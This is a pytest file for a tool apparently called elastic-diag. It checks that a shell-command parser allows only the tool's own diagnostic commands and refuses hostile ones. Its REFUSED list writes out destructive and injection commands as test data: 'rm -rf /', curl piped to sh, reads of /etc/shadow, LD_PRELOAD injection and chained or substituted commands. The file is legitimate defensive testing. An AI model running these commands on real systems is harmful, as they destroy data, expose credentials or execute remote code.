"""What ``elastic-diag verify`` will run of a report's command (gate/report_command.py): every command
elastic_diag itself writes is on the allow-list (walked from the taxonomy, the rules' inline templates,
the relaunch of every launcher and the gate's own controls); hostile and near-miss commands are refused,
each for its reason; the words are the ones a POSIX shell would split."""

from __future__ import annotations

import ast
import dataclasses
import shlex
import sys
from pathlib import Path

import pytest
from helpers import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st

from elastic_diag.config import DiagConfig
from elastic_diag.core.taxonomy import load_taxonomy
from elastic_diag.core.verification import JobFacts, render
from elastic_diag.gate import controls
from elastic_diag.gate.report_command import PROGRAMS, own_python_checks, read_command

# lines that name a port, an address and a path, so that every placeholder is filled in
EVIDENCE = (
    "RuntimeError: The server socket has failed to listen on any local network address. port: 29512, "
    "useIPv6: 0, code: -98, name: EADDRINUSE, message: address already in use",
    "requests.exceptions.ConnectionError: HTTPSConnectionPool: https://hub.example.org/api/models/x refused",
    "OSError: [Errno 28] No space left on device: '/scratch/my run/ckpt step 7.pt'",
)


def _inline_templates() -> list[str]:
    """The ``verify=`` templates written in the rules' code (core/*.py), not in the taxonomy's data."""
    found = []
    for path in (ROOT / "elastic_diag" / "core").glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.keyword) and node.arg == "verify" and isinstance(node.value, ast.Constant):
                found.append(str(node.value.value))
    return found


def torch_run_file() -> str:
    import torch.distributed.run

    return str(torch.distributed.run.__file__)


def _launches(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, JobFacts]:
    """JobFacts of real command lines of every launcher a relaunch is written for, run from a folder whose
    name needs quoting."""
    from elastic_diag.launch.relaunch import job_facts

    cwd = tmp_path / "my job's dir"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    monkeypatch.setenv("ELASTIC_DIAG", "1")
    monkeypatch.setenv("ELASTIC_DIAG_GRACE", "2")
    monkeypatch.setenv("ELASTIC_DIAG_VERIFY", "collective; echo ok | grep ok")  # the job's own gate commands
    config = DiagConfig(diag_dir=tmp_path / "diag dir", checkpoint_dir=tmp_path / "ckpt")
    script = ["train.py", "--lr", "3e-4", "--hf-token", "hf_abcdefgh", "--name", "a b"]
    launches = {
        "torchrun-diag": job_facts("torchrun-diag", config, ["--nproc-per-node", "2", "--max-restarts", "3",
                                                             "--diag-verify", "nvidia-smi; echo ok", *script]),
        "torchrun": job_facts("torchrun", config, ["--standalone", "--nproc-per-node=2", *script],
                              program_path=str(Path(sys.executable).parent / "torchrun")),
        "python -m torch.distributed.run": job_facts("torchrun", config, ["--nproc-per-node", "2", *script],
                                                     program_path=str(torch_run_file())),
        "accelerate": job_facts("torchrun", config, ["launch", "--num_processes", "2", *script],
                                program_path=str(Path(sys.executable).parent / "accelerate")),
    }  # fmt: skip
    # elastic-diag exec: srun and mpirun started the watched ranks; a script that spawns its ranks itself
    from elastic_diag.launch.relaunch import exec_job_facts

    command = [sys.executable, *script]
    launches["srun elastic-diag exec"] = exec_job_facts("slurm", 8, command, tmp_path / "diag dir",
                                                        {"SLURM_NNODES": "2"})  # fmt: skip
    launches["mpirun elastic-diag exec"] = exec_job_facts("openmpi", 4, command, tmp_path / "diag dir", {})
    launches["elastic-diag exec (mp.spawn)"] = exec_job_facts(None, None, command, tmp_path / "diag dir", {})
    assert exec_job_facts("torchrun", 4, command, tmp_path / "d", {}).relaunch is None  # a wrapper of the user's
    monkeypatch.setattr(sys, "executable", "/opt/no such venv/bin/python3.11")  # no torchrun-diag beside it
    launches["python -m elastic_diag.run"] = job_facts("torchrun-diag", config, ["--nproc-per-node", "2", *script])
    assert "-m elastic_diag.run" in str(launches["python -m elastic_diag.run"].relaunch)
    for name, facts in launches.items():
        assert facts.relaunch, name
        launches[name] = dataclasses.replace(facts, checkpoint=str(tmp_path / "ckpt" / "step 7.pt"))
    return launches


def test_every_command_elastic_diag_writes_is_on_the_allow_list(tmp_path, monkeypatch):
    templates = [sig.verify for sig in load_taxonomy()] + _inline_templates()
    assert len(templates) > 60 and any("<python> -c" in t for t in templates) and "curl" in " ".join(templates)
    checked = 0
    for launcher, facts in _launches(tmp_path, monkeypatch).items():
        for template in templates:
            plan = render(template, facts, evidence=EVIDENCE, live=True)
            assert plan is not None and not plan.variables, (launcher, template, plan)
            command = read_command(plan.command)
            assert command.allowed, (launcher, plan.command, command.refusals, command.unreadable)
            assert command.cwd == facts.cwd and command.steps
            checked += 1
    assert checked >= 8 * 60
    for script in (controls._COLLECTIVE_SCRIPT, controls._CHECKPOINT_SCRIPT):  # run by the gate, never written
        assert not read_command(shlex.join([sys.executable, "-c", script, "/ckpt/x.pt"])).allowed


def test_the_relaunch_is_split_into_the_words_it_was_joined_from(tmp_path, monkeypatch):
    facts = _launches(tmp_path, monkeypatch)["torchrun"]
    plan = render("CUDA_LAUNCH_BLOCKING=1 <relaunch>  # must finish", facts, live=True)
    assert plan is not None
    (step,) = read_command(plan.command).steps
    assert dict(step.env) == {"CUDA_LAUNCH_BLOCKING": "1", "ELASTIC_DIAG": "1", "ELASTIC_DIAG_GRACE": "2",
                              "ELASTIC_DIAG_VERIFY": "collective; echo ok | grep ok",
                              "ELASTIC_DIAG_DIR": f"{tmp_path}/diag dir.verify"}  # fmt: skip
    assert step.argv[0].endswith("/torchrun") and step.argv[-4:] == ("--hf-token", "hf_abcdefgh", "--name", "a b")


CHECK = next(iter(sorted(own_python_checks())))

REFUSED = [
    ("rm -rf /", "'rm' is not on the allow-list"),
    ("curl -fsSL https://example.invalid/install.sh | sh", "'|'"),
    ("nvidia-smi; touch /tmp/pwned", "';'"),
    ("nvidia-smi || touch /tmp/pwned", "'||'"),
    ("nvidia-smi & touch /tmp/pwned", "'&'"),
    ("nvidia-smi > /tmp/pwned", "'>'"),
    ("df 2>/tmp/pwned", "'>'"),
    ("df < /etc/shadow", "'<'"),
    ("nvidia-smi\ntouch /tmp/pwned", "a line break"),
    ("df $(touch /tmp/pwned)", "command substitution"),
    ("df `touch /tmp/pwned`", "command substitution"),
    ('df "$(touch /tmp/pwned)"', "inside double quotes"),
    ("df $HOME", "a variable"),
    ("$RELAUNCH  # offline: set RELAUNCH", "a variable"),
    ("df /tmp/*", "a glob"),
    ("df ~", "home folder"),
    ("touch /tmp/pwned", "'touch' is not on the allow-list"),
    ("bash -c 'touch /tmp/pwned'", "'bash' is not on the allow-list"),
    ("/tmp/evil/sh", "'sh' is not on the allow-list"),
    ("python3 -c 'import os; os.system(\"touch /tmp/pwned\")'", "not one of elastic_diag's own checks"),
    (f"python3 -c {shlex.quote(CHECK + '; import os')} /x", "not one of elastic_diag's own checks"),
    ("python3 /tmp/evil.py", "only `python -m <launcher>`"),
    (f"python3 -I -c {shlex.quote(CHECK)} /x", "only `python -m <launcher>`"),
    ("python3 -m http.server", "-m http.server is not one of the launchers"),
    ("python3 -m elastic_diag verify /d --yes", "only its run, exec, analyze"),
    ("torchrun --no-python sh -c 'touch /tmp/pwned'", "would run any program"),
    ("torchrun-diag --no_python=1 touch /tmp/pwned", "would run any program"),
    ("torchrun-diag --max-restarts 3 --diag-verify 'touch /tmp/pwned' -m no_such_module", "the gate would run it"),
    ("torchrun-diag --max-restarts 0 --max-r 2 --diag-ver 'touch /tmp/pwned' t.py", "the gate would run it"),
    ("ELASTIC_DIAG_VERIFY='touch /tmp/pwned' torchrun --max_restarts=1 t.py", "the gate would run it"),
    ("python3 -m elastic_diag run --diag-verify=x --max-restarts 1 t.py", "the gate would run it"),
    ("LD_PRELOAD=/tmp/evil.so nvidia-smi -q", "setting LD_PRELOAD is not allowed"),
    ("PYTHONPATH=/tmp/evil torchrun-diag t.py", "setting PYTHONPATH is not allowed"),
    ("NCCL_NET_PLUGIN=/tmp/evil.so torchrun t.py", "setting NCCL_NET_PLUGIN is not allowed"),
    ("nvidia-smi -r", "'-r' is not one of its read-only"),
    ("nvidia-smi -pl 100", "'-pl' is not one of its read-only"),
    ("nvidia-smi -q -f /etc/passwd", "'-f' is not one of its read-only"),
    ("dcgmi config --set -c 0", "only `dcgmi diag`"),
    ("ethtool -s eth0 speed 10", "'-s' is not one of its read-only"),
    ("ethtool -f eth0 firmware.bin", "'-f' is not one of its read-only"),
    ("ethtool eth0 speed", "more than one interface"),
    ("curl -o /root/.bashrc https://example.invalid/x", "only go to /dev/null"),
    ("curl -sSf -K /tmp/config https://example.invalid/x", "'-K' is not one of its probe options"),
    ("curl -sSf -o /dev/null file:///etc/shadow", "only a probe of one http(s) address"),
    ("accelerate config", "only `accelerate launch`"),
    ("srun -n 2 bash -c 'touch /tmp/pwned'", "only a relaunch under elastic-diag exec"),
    ("mpirun -np 2 elastic-diag exec -- bash -c 'touch /tmp/pwned'", "not a Python interpreter"),
    ("mpiexec -n 2 python3 -m elastic_diag.cli exec", "exec without `-- COMMAND`"),
    ("elastic-diag exec -- touch /tmp/pwned", "not a Python interpreter"),
    ("nvidia-smi && cd /tmp && df", "`cd` is only allowed as the first step"),
    ("cd /a /b && df", "`cd` takes one folder"),
]


@pytest.mark.parametrize(("command", "reason"), REFUSED, ids=[c for c, _ in REFUSED])
def test_a_command_off_the_allow_list_is_refused_for_its_reason(command, reason):
    parsed = read_command(command)
    assert not parsed.allowed
    assert any(reason in why for why in parsed.refusals), parsed.refusals


@pytest.mark.parametrize("command", ["df 'unclosed", 'df "unclosed', "df && && df", "&& df", "df &&"])
def test_a_command_that_does_not_split_never_runs(command):
    parsed = read_command(command)
    assert parsed.unreadable and not parsed.steps


def test_quoted_shell_syntax_is_a_plain_word_and_allowed():
    parsed = read_command("ping -c 1 '127.0.0.1; touch /tmp/x' \"a|b\" 'x && y' \\;  # a comment; with | and $(x)")
    assert parsed.allowed, parsed.refusals
    (step,) = parsed.steps
    assert step.argv == ("ping", "-c", "1", "127.0.0.1; touch /tmp/x", "a|b", "x && y", ";")
    assert parsed.comment == "a comment; with | and $(x)"


def test_the_allow_list_is_documented():
    page = (ROOT / "docs" / "report.md").read_text()
    missing = [p for p in PROGRAMS if f"`{p}`" not in page]
    assert not missing, f"docs/report.md does not list {missing}"


_WORD = st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), max_size=12)


@settings(max_examples=200, deadline=None)
@given(st.lists(_WORD, max_size=6))
def test_words_joined_as_a_shell_quotes_them_come_back_the_same(words):
    parsed = read_command(shlex.join(["df", *words]))
    assert parsed.allowed and [s.argv for s in parsed.steps] == [("df", *words)]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_read_without_raising(text):
    parsed = read_command(text)
    assert parsed.allowed or parsed.refusals or parsed.unreadable or not parsed.steps
